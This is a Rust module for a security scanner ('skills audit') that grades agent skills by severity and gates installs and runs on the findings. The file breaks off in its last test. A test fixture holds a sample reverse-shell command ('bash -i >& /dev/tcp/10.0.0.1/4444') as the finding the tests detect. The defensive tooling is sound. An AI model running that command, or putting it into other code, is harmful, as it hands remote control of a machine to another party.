//! What `skills audit` finds in a skill (issue 31): findings, one report per skill, and what
//! the caller asks for.
//!
//! The JSON of a [`Report`] is the shape skillhub's scanner integration reads from Cisco's
//! `skill-scanner` (`is_safe`, `max_severity`, `findings_count`, `findings`, each finding with
//! `rule_id`, `severity`, `category`, `title`, `description`, `file_path`, `line_number`,
//! `snippet`, `remediation`, `analyzer`), so an operator can put this scanner where that one
//! was. Beside those names each finding also carries this project's own: `message` (the same
//! text as `description`) and `location` (`file`, `line`, `column`). Severities are written in
//! capitals as that integration expects (`"HIGH"`), and a report with no finding has
//! `max_severity` `"SAFE"`. Nothing in a report depends on the clock or the machine: the same
//! files and rules give the same bytes.

use std::fmt;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// How bad a finding is, from least to most: the order is the derive's.
#[derive(
    Clone,
    Copy,
    Debug,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Hash,
    Serialize,
    Deserialize,
    schemars::JsonSchema,
)]
#[serde(rename_all = "UPPERCASE")]
pub enum Severity {
    /// Worth knowing; never blocks.
    Info,
    /// Unusual, rarely harmful.
    Low,
    /// Harmful in some settings; read it.
    Medium,
    /// Does something a user would not agree to without reading it: asks on install.
    High,
    /// Steals, destroys, or takes over: refuses install and run until accepted.
    Critical,
}

impl Severity {
    /// Every severity, least first.
    pub const ALL: [Self; 5] = [
        Self::Info,
        Self::Low,
        Self::Medium,
        Self::High,
        Self::Critical,
    ];

    /// The lowercase word (`high`): what the CLI and the configuration take.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Info => "info",
            Self::Low => "low",
            Self::Medium => "medium",
            Self::High => "high",
            Self::Critical => "critical",
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(self.as_str())
    }
}

impl FromStr for Severity {
    type Err = String;

    /// Any case: `high`, `HIGH`, `High`.
    fn from_str(text: &str) -> Result<Self, Self::Err> {
        Self::ALL
            .into_iter()
            .find(|severity| severity.as_str().eq_ignore_ascii_case(text))
            .ok_or_else(|| {
                format!("`{text}` is not a severity (one of: info, low, medium, high, critical)")
            })
    }
}

/// What kind of harm a finding is about. The names that Cisco's `skill-scanner` also uses
/// are spelled as it spells them, so a dashboard that groups by category groups both.
#[derive(
    Clone,
    Copy,
    Debug,
    PartialEq,
    Eq,
    PartialOrd,
    Ord,
    Hash,
    Serialize,
    Deserialize,
    schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    /// Text that tries to take over the agent: override, role change, hiding actions.
    PromptInjection,
    /// Running commands built from untrusted text, or downloaded code.
    CommandInjection,
    /// Sending data off the machine.
    DataExfiltration,
    /// Reading credential stores, keys, tokens, other processes' environments.
    CredentialAccess,
    /// Tools or permissions wider than the skill needs.
    UnauthorizedToolUse,
    /// Code or text hidden by encoding, packing or escapes.
    Obfuscation,
    /// Keys and tokens committed in the skill.
    HardcodedSecrets,
    /// Pressure on the user or the agent: urgency, authority, impersonation.
    SocialEngineering,
    /// Mining, fork bombs, unbounded work.
    ResourceAbuse,
    /// Against the format or the user's configuration.
    PolicyViolation,
    /// Known malicious behaviour: reverse shells, droppers.
    Malware,
    /// Invisible characters that change what a reader or a model sees.
    UnicodeSteganography,
    /// Packages or code fetched and installed at run time; names imitating other skills.
    SupplyChainAttack,
    /// Surviving the run: shell rc files, cron, launch agents, git hooks.
    Persistence,
    /// Deleting or overwriting what is not the skill's.
    DestructiveAction,
}

impl Category {
    /// The snake_case name, as in the JSON.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::PromptInjection => "prompt_injection",
            Self::CommandInjection => "command_injection",
            Self::DataExfiltration => "data_exfiltration",
            Self::CredentialAccess => "credential_access",
            Self::UnauthorizedToolUse => "unauthorized_tool_use",
            Self::Obfuscation => "obfuscation",
            Self::HardcodedSecrets => "hardcoded_secrets",
            Self::SocialEngineering => "social_engineering",
            Self::ResourceAbuse => "resource_abuse",
            Self::PolicyViolation => "policy_violation",
            Self::Malware => "malware",
            Self::UnicodeSteganography => "unicode_steganography",
            Self::SupplyChainAttack => "supply_chain_attack",
            Self::Persistence => "persistence",
            Self::DestructiveAction => "destructive_action",
        }
    }
}

impl fmt::Display for Category {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str(self.as_str())
    }
}

/// Where in the skill a finding is: a file relative to the skill folder (`/`-separated),
/// and a 1-based line and column; line 0 means the whole file.
#[derive(
    Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, schemars::JsonSchema,
)]
pub struct Location {
    /// The file, relative to the skill folder.
    pub file: String,
    /// The line, from 1; 0 for the whole file.
    pub line: u32,
    /// The column in characters, from 1; 0 for the whole line.
    pub column: u32,
}

/// One thing a rule found.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(from = "FindingWire", into = "FindingWire")]
#[non_exhaustive]
pub struct Finding {
    /// The rule, stable across releases (`SCRIPT_REVERSE_SHELL`).
    pub rule_id: String,
    /// How bad.
    pub severity: Severity,
    /// What kind of harm.
    pub category: Category,
    /// The rule's one-line name.
    pub title: String,
    /// What was found here, in a sentence.
    pub message: String,
    /// Where.
    pub location: Location,
    /// The text that matched, sanitised and cut to one short line.
    pub snippet: String,
    /// What to do about it.
    pub remediation: String,
    /// The analyzer whose rule it is (`instructions`, `hidden`, `scripts`, `manifest`,
    /// `rules`).
    pub analyzer: String,
}

impl Finding {
    /// A finding; the snippet is kept as given (the analyzers sanitise it).
    #[expect(
        clippy::too_many_arguments,
        reason = "every field is required and named"
    )]
    pub fn new(
        rule_id: impl Into<String>,
        severity: Severity,
        category: Category,
        title: impl Into<String>,
        message: impl Into<String>,
        location: Location,
        snippet: impl Into<String>,
        remediation: impl Into<String>,
        analyzer: impl Into<String>,
    ) -> Self {
        Self {
            rule_id: rule_id.into(),
            severity,
            category,
            title: title.into(),
            message: message.into(),
            location,
            snippet: snippet.into(),
            remediation: remediation.into(),
            analyzer: analyzer.into(),
        }
    }

    /// The finding in one line, as a gate's refusal lists it: `RULE_ID (severity)
    /// file:line: message`, every part sanitised (the message and snippet already are).
    pub fn line(&self) -> String {
        format!(
            "{} ({}) {}:{}: {}",
            crate::sanitize::line(&self.rule_id),
            self.severity.as_str(),
            crate::sanitize::line(&self.location.file),
            self.location.line,
            crate::sanitize::line(&self.message)
        )
    }

    /// The finding's stable identity: the rule and the place (`RULE@file:line:column`).
    pub fn id(&self) -> String {
        format!(
            "{}@{}:{}:{}",
            self.rule_id, self.location.file, self.location.line, self.location.column
        )
    }
}

/// A finding as written: this project's names and the skillhub integration's together.
#[derive(Serialize, Deserialize, schemars::JsonSchema)]
struct FindingWire {
    #[serde(default)]
    id: String,
    rule_id: String,
    severity: Severity,
    category: Category,
    title: String,
    message: String,
    /// The same text as `message`: the name skillhub reads.
    #[serde(default)]
    description: String,
    location: Location,
    /// `location.file`: the name skillhub reads.
    #[serde(default)]
    file_path: String,
    /// `location.line`: the name skillhub reads.
    #[serde(default)]
    line_number: u32,
    snippet: String,
    remediation: String,
    analyzer: String,
}

impl From<Finding> for FindingWire {
    fn from(finding: Finding) -> Self {
        Self {
            id: finding.id(),
            description: finding.message.clone(),
            file_path: finding.location.file.clone(),
            line_number: finding.location.line,
            rule_id: finding.rule_id,
            severity: finding.severity,
            category: finding.category,
            title: finding.title,
            message: finding.message,
            location: finding.location,
            snippet: finding.snippet,
            remediation: finding.remediation,
            analyzer: finding.analyzer,
        }
    }
}

impl From<FindingWire> for Finding {
    fn from(wire: FindingWire) -> Self {
        Self {
            rule_id: wire.rule_id,
            severity: wire.severity,
            category: wire.category,
            title: wire.title,
            message: wire.message,
            location: wire.location,
            snippet: wire.snippet,
            remediation: wire.remediation,
            analyzer: wire.analyzer,
        }
    }
}

/// A file the scan read only in part, and why.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct Skipped {
    /// The file, relative to the skill folder.
    pub file: String,
    /// Why (`read the first 1048576 bytes of 5242880`, `a link out of the skill`).
    pub reason: String,
}

/// What one skill's scan found.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Report {
    /// The skill's name (its frontmatter `name`, else its folder's name).
    pub skill_name: String,
    /// Its folder, as given or as discovered.
    #[serde(with = "crate::path_text")]
    #[schemars(with = "String")]
    pub skill_path: PathBuf,
    /// No finding at or above the threshold the scan was asked with.
    pub is_safe: bool,
    /// The worst severity found; `None` (written `"SAFE"`) when nothing was.
    #[serde(with = "max_severity")]
    #[schemars(with = "String")]
    pub max_severity: Option<Severity>,
    /// `findings.len()`.
    pub findings_count: usize,
    /// Every finding, worst first, then by file, line, column and rule.
    pub findings: Vec<Finding>,
    /// The version of the rules that scanned: a change means an earlier verdict is stale.
    pub rules_version: String,
    /// The digest of the skill's files as scanned (`sha256:`…): what an acceptance binds to.
    pub digest: String,
    /// Files read only in part or not at all.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skipped: Vec<Skipped>,
    /// Findings the user accepted for this digest: still listed, no longer blocking.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub accepted: Vec<String>,
}

impl Report {
    /// A report of `findings` (sorted by the caller), its verdict taken against `fail_on`.
    pub fn new(
        skill_name: String,
        skill_path: PathBuf,
        findings: Vec<Finding>,
        fail_on: Severity,
        rules_version: &str,
        digest: String,
        skipped: Vec<Skipped>,
    ) -> Self {
        let max_severity = findings.iter().map(|finding| finding.severity).max();
        Self {
            skill_name,
            skill_path,
            is_safe: max_severity.is_none_or(|worst| worst < fail_on),
            max_severity,
            findings_count: findings.len(),
            findings,
            rules_version: rules_version.to_owned(),
            digest,
            skipped,
            accepted: Vec::new(),
        }
    }

    /// Records the rules the user accepted for this report (`rules`: every rule id accepted
    /// for this skill's digest, and those accepted for every skill) and takes the verdict
    /// again against `fail_on`: only the ids of rules that found something are kept, sorted.
    pub fn set_accepted<'a>(
        &mut self,
        rules: impl IntoIterator<Item = &'a str>,
        fail_on: Severity,
    ) {
        let mut accepted: Vec<String> = rules
            .into_iter()
            .filter(|rule| self.findings.iter().any(|finding| finding.rule_id == *rule))
            .map(str::to_owned)
            .collect();
        accepted.sort_unstable();
        accepted.dedup();
        self.accepted = accepted;
        let safe = self.blocking(fail_on).next().is_none();
        self.is_safe = safe;
    }

    /// The findings at or above `threshold` that the user has not accepted.
    pub fn blocking(&self, threshold: Severity) -> impl Iterator<Item = &Finding> {
        self.findings.iter().filter(move |finding| {
            finding.severity >= threshold && !self.accepted.contains(&finding.rule_id)
        })
    }
}

mod max_severity {
    //! `max_severity` as skillhub reads it: a severity in capitals, or `"SAFE"`.

    use serde::{Deserialize, Deserializer, Serialize, Serializer};

    use super::Severity;

    const SAFE: &str = "SAFE";

    pub(super) fn serialize<S: Serializer>(
        value: &Option<Severity>,
        serializer: S,
    ) -> Result<S::Ok, S::Error> {
        match value {
            Some(severity) => severity.serialize(serializer),
            None => serializer.serialize_str(SAFE),
        }
    }

    pub(super) fn deserialize<'de, D: Deserializer<'de>>(
        deserializer: D,
    ) -> Result<Option<Severity>, D::Error> {
        let text = String::deserialize(deserializer)?;
        if text == SAFE {
            return Ok(None);
        }
        text.parse().map(Some).map_err(serde::de::Error::custom)
    }
}

/// The reports of several skills, with their totals (the shape of `skill-scanner`'s
/// multi-skill report: `summary` and `results`).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Summary {
    /// Skills scanned.
    pub total_skills_scanned: usize,
    /// Findings over all of them.
    pub total_findings: usize,
    /// Skills with no finding at or above the threshold.
    pub safe_skills: usize,
    /// Findings by severity, every severity present (lowercase keys).
    pub findings_by_severity: std::collections::BTreeMap<String, usize>,
    /// Skills that could not be scanned, with why.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skills_skipped: Vec<Skipped>,
    /// The threshold the verdicts were taken against, when the scan says.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub fail_on: Option<Severity>,
}

/// Several reports and their summary.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Reports {
    /// The totals.
    pub summary: Summary,
    /// One report per skill, in the order asked (or the catalog's order).
    pub results: Vec<Report>,
}

impl Summary {
    /// The totals of no report: every severity present at zero, nothing skipped, no
    /// threshold. ([`Default`] is the empty value, with no severity at all.)
    pub fn new() -> Self {
        Self {
            findings_by_severity: Severity::ALL
                .iter()
                .map(|severity| (severity.as_str().to_owned(), 0))
                .collect(),
            ..Self::default()
        }
    }

    /// Adds `report` to the totals: what a scan that hands its reports on one by one (and
    /// keeps none) counts as it goes.
    pub fn count(&mut self, report: &Report) {
        self.total_skills_scanned += 1;
        self.total_findings += report.findings.len();
        self.safe_skills += usize::from(report.is_safe);
        for finding in &report.findings {
            *self
                .findings_by_severity
                .entry(finding.severity.as_str().to_owned())
                .or_default() += 1;
        }
    }
}

impl Reports {
    /// The reports with their totals computed.
    pub fn new(results: Vec<Report>, skills_skipped: Vec<Skipped>) -> Self {
        let mut summary = Summary::new();
        for report in &results {
            summary.count(report);
        }
        summary.skills_skipped = skills_skipped;
        Self { summary, results }
    }

    /// The reports with totals already counted ([`Summary::count`]).
    pub fn with_summary(results: Vec<Report>, summary: Summary) -> Self {
        Self { summary, results }
    }
}

/// What to scan and how.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields)]
#[non_exhaustive]
pub struct Request {
    /// Skill folders or catalog names: a target written as a path (holding a `/`, or `.` or
    /// `..`) is a folder, any other a skill of the catalog by name or folder name. Empty:
    /// every skill of the catalog, every scope.
    #[serde(default)]
    pub targets: Vec<String>,
    /// A report is not safe when it has a finding at or above this that is not accepted.
    /// Absent: the configuration's `[audit] fail_on` (`HIGH` unless set).
    #[serde(default)]
    pub fail_on: Option<Severity>,
}

impl Request {
    /// Every skill of the catalog, at the configuration's threshold.
    pub fn new() -> Self {
        Self {
            targets: Vec::new(),
            fail_on: None,
        }
    }

    /// These targets instead.
    pub fn with_targets(mut self, targets: Vec<String>) -> Self {
        self.targets = targets;
        self
    }

    /// This threshold instead of the configuration's.
    pub fn with_fail_on(mut self, fail_on: Severity) -> Self {
        self.fail_on = Some(fail_on);
        self
    }
}

impl Default for Request {
    fn default() -> Self {
        Self::new()
    }
}

/// What a target of a [`Request`] names: a folder when it is written as a path (it holds a
/// slash or a backslash, or is `.` or `..`), else a skill of the catalog. The rule reads the text
/// alone, so `pdf` is always the catalog's skill and `./pdf` always the folder, whatever the
/// current folder holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Target<'a> {
    /// A skill folder (or its `SKILL.md`).
    Path(&'a Path),
    /// A skill of the catalog, by name or folder name.
    Name(&'a str),
}

impl<'a> Target<'a> {
    /// What `text` names.
    pub fn of(text: &'a str) -> Self {
        if text == "." || text == ".." || text.contains(['/', '\\']) {
            Self::Path(Path::new(text))
        } else {
            Self::Name(text)
        }
    }
}

/// The file in `<home>/<app_dir>` that holds the user's acceptances (`skills audit --accept`):
/// in the home, never in a workspace, so a repository cannot ship its own.
pub const ACCEPTED_FILE: &str = "audit-accepted.json";

/// The file in `<home>/<app_dir>` that holds the last verdict of every skill folder scanned
/// (`skills audit`, `skills check`, `skills watch`): what `list`, `show` and the MCP catalog
/// mark a skill by, without scanning it again.
pub const VERDICTS_FILE: &str = "audit-verdicts.json";

/// Whether a stored verdict still describes a skill's files.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum MarkState {
    /// The files are as they were scanned.
    Current,
    /// The files changed since: the verdict says nothing about them now (never "clean").
    Stale,
}

/// A skill's last audit verdict as a listing shows it (the `audit` object of `list`, `show`
/// and the MCP catalog). A skill that was never audited has none: no mark is not "clean".
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Mark {
    /// The worst severity found; `None` (written `"SAFE"`) when nothing was.
    #[serde(with = "max_severity")]
    #[schemars(with = "String")]
    pub max_severity: Option<Severity>,
    /// How many findings the scan made.
    pub findings_count: usize,
    /// The version of the rules that scanned.
    pub rules_version: String,
    /// Whether an unaccepted finding at or above `[audit] refuse_on` blocks its runs.
    pub blocked: bool,
    /// `current`, or `stale` when the files changed after the scan.
    pub state: MarkState,
}

impl Mark {
    /// A mark of a verdict.
    pub fn new(
        max_severity: Option<Severity>,
        findings_count: usize,
        rules_version: String,
        blocked: bool,
        state: MarkState,
    ) -> Self {
        Self {
            max_severity,
            findings_count,
            rules_version,
            blocked,
            state,
        }
    }

    /// The verdict is current and found something high or critical: the skill is flagged.
    pub fn flagged(&self) -> bool {
        self.state == MarkState::Current && self.was_flagged()
    }

    /// The scan found something high or critical, whether or not the files changed since.
    pub fn was_flagged(&self) -> bool {
        self.max_severity
            .is_some_and(|worst| worst >= Severity::High)
    }

    /// The words a listing shows for the skill `name` (sanitised by the caller, as every
    /// other field), or `None` when there is nothing to say (a current verdict below high).
    pub fn note(&self, name: &str) -> Option<String> {
        let count = |count: usize| format!("{count} finding{}", if count == 1 { "" } else { "s" });
        match (self.state, self.max_severity) {
            (MarkState::Current, Some(worst)) if worst >= Severity::High => Some(format!(
                "flagged: {worst} ({}){} — skills audit {name}",
                count(self.findings_count),
                if self.blocked { ", blocked" } else { "" }
            )),
            (MarkState::Current, _) => None,
            (MarkState::Stale, worst) => Some(format!(
                "audit stale: changed since it was scanned{} — skills audit {name}",
                match worst {
                    Some(worst) if worst >= Severity::High => format!(" (was {worst})"),
                    _ => String::new(),
                }
            )),
        }
    }

    /// What an agent is told about the skill, or `None`: only a flag, or a flag whose files
    /// changed since (a stale clean verdict is nothing the agent needs).
    pub fn agent_note(&self, name: &str) -> Option<String> {
        if self.was_flagged() {
            self.note(name)
        } else {
            None
        }
    }
}

/// What `skills check` made of the audit verdicts: every skill whose verdict was missing,
/// scanned with other rules ([`Recheck::rules_version`] differs) or older than its files was
/// scanned again and its verdict recorded; the flagged skills are its diagnostics.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Recheck {
    /// The version of the rules in force (the built-in rules' and the user's).
    pub rules_version: String,
    /// The names of the skills scanned again, in the catalog's order.
    pub scanned: Vec<String>,
    /// How many skills kept their verdict (same rules, same files).
    pub unchanged: usize,
    /// `audit-flagged` for each skill whose verdict is high or critical, `audit-unscanned` for
    /// each that could not be scanned.
    pub diagnostics: Vec<crate::Diagnostic>,
}

/// What `skills audit --accept NAME` recorded: the findings of the skill as it is now, no
/// longer blocking while its files have this digest.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Accepted {
    /// The skill's name.
    pub skill_name: String,
    /// Its folder, as the acceptance is bound to it.
    #[serde(with = "crate::path_text")]
    #[schemars(with = "String")]
    pub skill_path: PathBuf,
    /// The digest of its files: any change, and the acceptance no longer applies.
    pub digest: String,
    /// The rules that scanned it.
    pub rules_version: String,
    /// The rule ids accepted, sorted: every rule with a finding at or above the lowest
    /// threshold in force (`fail_on`, `ask_on`, `refuse_on`).
    pub rules: Vec<String>,
    /// The findings those rules made, worst first.
    pub findings: Vec<Finding>,
    /// When, in RFC 3339 (UTC).
    pub at: String,
    /// Whether anything was written: `false` when no finding needed accepting.
    pub recorded: bool,
}

impl Accepted {
    /// An acceptance of `rules` for `report`, made `at`.
    pub fn new(report: &Report, rules: Vec<String>, at: String) -> Self {
        let findings = report
            .findings
            .iter()
            .filter(|finding| rules.contains(&finding.rule_id))
            .cloned()
            .collect();
        Self {
            skill_name: report.skill_name.clone(),
            skill_path: report.skill_path.clone(),
            digest: report.digest.clone(),
            rules_version: report.rules_version.clone(),
            recorded: !rules.is_empty(),
            rules,
            findings,
            at,
        }
    }
}

/// The `[audit]` table of `skills.toml`: the thresholds the scans, installs and runs go by,
/// the user's own rule folders, and the rules accepted for every skill. The home file sets
/// it; a trusted workspace's may only lower a threshold and add rule folders
/// ([`crate::settings::KEYS`]).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(default)]
#[non_exhaustive]
pub struct AuditConfig {
    /// `skills audit` fails (status 1) on a finding at or above this (default high).
    pub fail_on: Severity,
    /// An install asks before writing a skill with a finding at or above this (default high).
    pub ask_on: Severity,
    /// An install, a run, a declared tool and a self-test are refused for a finding at or
    /// above this that the user has not accepted (default critical).
    pub refuse_on: Severity,
    /// Folders of the user's own rules, scanned with besides the built-in ones.
    #[schemars(with = "Vec<String>")]
    pub rules: Vec<PathBuf>,
    /// Rule ids accepted for every skill: still reported, never blocking (home only).
    pub accepted: Vec<String>,
}

impl Default for AuditConfig {
    fn default() -> Self {
        Self {
            fail_on: Severity::High,
            ask_on: Severity::High,
            refuse_on: Severity::Critical,
            rules: Vec::new(),
            accepted: Vec::new(),
        }
    }
}

impl AuditConfig {
    /// The lowest of the three thresholds: what an acceptance covers, so that an accepted
    /// skill passes every gate.
    pub fn lowest_threshold(&self) -> Severity {
        self.fail_on.min(self.ask_on).min(self.refuse_on)
    }

    /// What a gate (install, update, run) does with `report`, whose
    /// [`Report::accepted`] is filled in: refuse for an unaccepted finding at or above
    /// `refuse_on`, else ask for one at or above `ask_on`, else pass. The findings are the
    /// ones that decided, worst first.
    pub fn gate(&self, report: &Report) -> Gate {
        let refused: Vec<Finding> = report.blocking(self.refuse_on).cloned().collect();
        if !refused.is_empty() {
            return Gate::Refuse(refused);
        }
        let asked: Vec<Finding> = report.blocking(self.ask_on).cloned().collect();
        if asked.is_empty() {
            Gate::Pass
        } else {
            Gate::Ask(asked)
        }
    }
}

/// What a gate does with a skill's report ([`AuditConfig::gate`]).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Gate {
    /// Nothing unaccepted at or above `ask_on`.
    Pass,
    /// Findings at or above `ask_on`: a person must agree first (`--yes` off a terminal).
    Ask(Vec<Finding>),
    /// Findings at or above `refuse_on`: refused unless forced or accepted.
    Refuse(Vec<Finding>),
}

/// What a person agreed to before an install or update writes a skill the audit flags
/// (`InstallRequest::audit`, `update::Request::audit`): the library never asks, the caller
/// does and says so here.
#[derive(
    Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum AuditConsent {
    /// Nothing: a finding at or above `ask_on` stops the install (`audit_unconfirmed`).
    #[default]
    None,
    /// Findings that ask (`--yes`, or a person answered yes): written, the findings said.
    Yes,
    /// Everything, even refusing findings (`--force`): written, the findings still said.
    Force,
}

/// What an install's gate decided, recorded with the install (the provenance record and the
/// lock entry, `audit`) and returned in its outcome: enough to tell later what rules passed
/// which files, and whether a person overrode them.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[non_exhaustive]
pub struct Verdict {
    /// The worst severity found, accepted or not; `None` (written `"SAFE"`) for none.
    #[serde(with = "max_severity")]
    #[schemars(with = "String")]
    pub max_severity: Option<Severity>,
    /// How many findings.
    pub findings_count: usize,
    /// The rules that scanned (`Options::rules_version`: the built-in version, and a digest
    /// of the user's rules when there are some).
    pub rules_version: String,
    /// The digest of the files as scanned (an acceptance binds to it).
    pub digest: String,
    /// What the gate did: `pass`, `asked` (a person agreed) or `forced` (`--force` over a
    /// refusal); a preview says `would_ask` or `would_refuse`.
    pub decision: Decision,
    /// Rules the user had accepted for these files or every skill.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub accepted: Vec<String>,
}

impl Verdict {
    /// The verdict of `report` (its acceptances applied) with the gate's `decision`.
    pub fn new(report: &Report, decision: Decision) -> Self {
        Self {
            max_severity: report.max_severity,
            findings_count: report.findings_count,
            rules_version: report.rules_version.clone(),
            digest: report.digest.clone(),
            decision,
            accepted: report.accepted.clone(),
        }
    }
}

/// What an install's gate did with a skill ([`Verdict::decision`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Decision {
    /// Nothing at or above `ask_on` that was not accepted.
    Pass,
    /// Findings at or above `ask_on`, and a person agreed (`--yes`).
    Asked,
    /// Findings at or above `refuse_on`, written anyway (`--force`).
    Forced,
    /// A preview (`install --list`): findings at or above `ask_on` would ask.
    WouldAsk,
    /// A preview: findings at or above `refuse_on` would refuse without `--force`.
    WouldRefuse,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(severity: Severity) -> Finding {
        Finding::new(
            "SCRIPT_REVERSE_SHELL",
            severity,
            Category::Malware,
            "Reverse shell",
            "connects a shell to 10.0.0.1:4444",
            Location {
                file: "scripts/run.sh".into(),
                line: 3,
                column: 1,
            },
            "bash -i >& /dev/tcp/10.0.0.1/4444",
            "Remove the connection.",
            "scripts",
        )
    }

    fn report(findings: Vec<Finding>) -> Report {
        Report::new(
            "x".into(),
            "x".into(),
            findings,
            Severity::High,
            "1",
            "sha256:00".into(),
            Vec::new(),
        )
    }

    #[test]
    fn severities_order_from_info_to_critical_and_parse_in_any_case() {
        assert!(Severity::Info < Severity::Low && Severity::High < Severity::Critical);
        assert_eq!("HiGh".parse::<Severity>(), Ok(Severity::High));
        assert!("severe".parse::<Severity>().is_err());
    }

    #[test]
    fn a_finding_is_written_with_both_name_sets_and_read_back() {
        let finding = finding(Severity::Critical);
        let value = serde_json::to_value(&finding).unwrap();
        assert_eq!(value["severity"], "CRITICAL");
        assert_eq!(value["category"], "malware");
        assert_eq!(value["description"], value["message"]);
        assert_eq!(value["file_path"], "scripts/run.sh");
        assert_eq!(value["line_number"], 3);
        assert_eq!(value["location"]["column"], 1);
        assert_eq!(value["id"], "SCRIPT_REVERSE_SHELL@scripts/run.sh:3:1");
        assert_eq!(serde_json::from_value::<Finding>(value).unwrap(), finding);
    }

    #[test]
    fn max_severity_is_safe_when_nothing_was_found() {
        let clean = serde_json::to_value(report(Vec::new())).unwrap();
        assert_eq!(clean["max_severity"], "SAFE");
        assert_eq!(clean["is_safe"], true);
        let flagged = report(vec![finding(Severity::High)]);
        let value = serde_json::to_value(&flagged).unwrap();
        assert_eq!(value["max_severity"], "HIGH");
        assert_eq!(value["findings_count"], 1);
        assert_eq!(serde_json::from_value::<Report>(value).unwrap(), flagged);
    }

    #[test]
    fn an_accepted_rule_stops_blocking_and_others_still_block() {
        let mut flagged = report(vec![finding(Severity::Critical)]);
        assert_eq!(flagged.blocking(Severity::Critical).count(), 1);
        flagged.accepted.push("SCRIPT_REVERSE_SHELL".into());
        assert_eq!(flagged.blocking(Severity::Critical).count(), 0);
        assert_eq!(flagged.blocking(Severity::Info).count(), 0);
    }

    #[test]
    fn accepting_takes_the_verdict_again_and_keeps_only_rules_that_found_something() {
        let mut flagged = report(vec![finding(Severity::High)]);
        assert!(!flagged.is_safe);
        flagged.set_accepted(["OTHER_RULE"], Severity::High);
        assert!(!flagged.is_safe && flagged.accepted.is_empty());
        flagged.set_accepted(
            ["SCRIPT_REVERSE_SHELL", "SCRIPT_REVERSE_SHELL"],
            Severity::High,
        );
        assert!(flagged.is_safe);
        assert_eq!(flagged.accepted, ["SCRIPT_REVERSE_SHELL"]);
        flagged.set_accepted([], Severity::High);
        assert!(!flagged.is_safe);
    }

    #[test]
    fn the_gate_refuses_asks_or_passes_by_the_thresholds_and_acceptances() {
        let config = AuditConfig::default();
        assert_eq!(config.lowest_threshold(), Severity::High);
        assert!(
            matches!(config.gate(&report(vec![finding(Severity::Critical)])), Gate::Refuse(found) if found.len() == 1)
        );
        assert!(matches!(
            config.gate(&report(vec![finding(Severity::High)])),
            Gate::Ask(_)
        ));
        assert_eq!(
            config.gate(&report(vec![finding(Severity::Medium)])),
            Gate::Pass
        );
        let mut accepted = report(vec![finding(Severity::Critical)]);
        accepted.set_accepted(["SCRIPT_REVERSE_SHELL"], Severity::High);
        assert_eq!(config.gate(&accepted), Gate::Pass);
        let strict = AuditConfig {
            ask_on: Severity::Low,
            refuse_on: Severity::Medium,
            ..AuditConfig::default()
        };
        assert_eq!(strict.lowest_threshold(), Severity::Low);
        assert!(matches!(
            strict.gate(&report(vec![finding(Severity::Medium)])),
            Gate::Refuse(_)
        ));
    }

    #[test]
    fn a_target_is_a_folder_only_when_written_as_a_path() {
        assert_eq!(Target::of("pdf"), Target::Name("pdf"));
        assert_eq!(Target::of("pdf-tools.v2"), Target::Name("pdf-tools.v2"));
        assert_eq!(Target::of("./pdf"), Target::Path(Path::new("./pdf")));
        assert_eq!(Target::of("/abs/pdf"), Target::Path(Path::new("/abs/pdf")));
        assert_eq!(
            Target::of("skills\\pdf"),
            Target::Path(Path::new("skills\\pdf"))
        );
        assert_eq!(Target::of("."), Target::Path(Path::new(".")));
        assert_eq!(Target::of(".."), Target::Path(Path::new("..")));
    }

    #[test]
    fn a_request_is_strict_and_its_threshold_optional() {
        let request: Request =
            serde_json::from_value(serde_json::json!({"targets": ["pdf"]})).unwrap();
        assert_eq!(request, Request::new().with_targets(vec!["pdf".into()]));
        let request: Request =
            serde_json::from_value(serde_json::json!({"fail_on": "CRITICAL"})).unwrap();
        assert_eq!(request.fail_on, Some(Severity::Critical));
        assert!(serde_json::from_value::<Request>(serde_json::json!({"target": "pdf"})).is_err());
    }

    #[test]
    fn the_summary_counts_every_severity() {
        let reports = Reports::new(
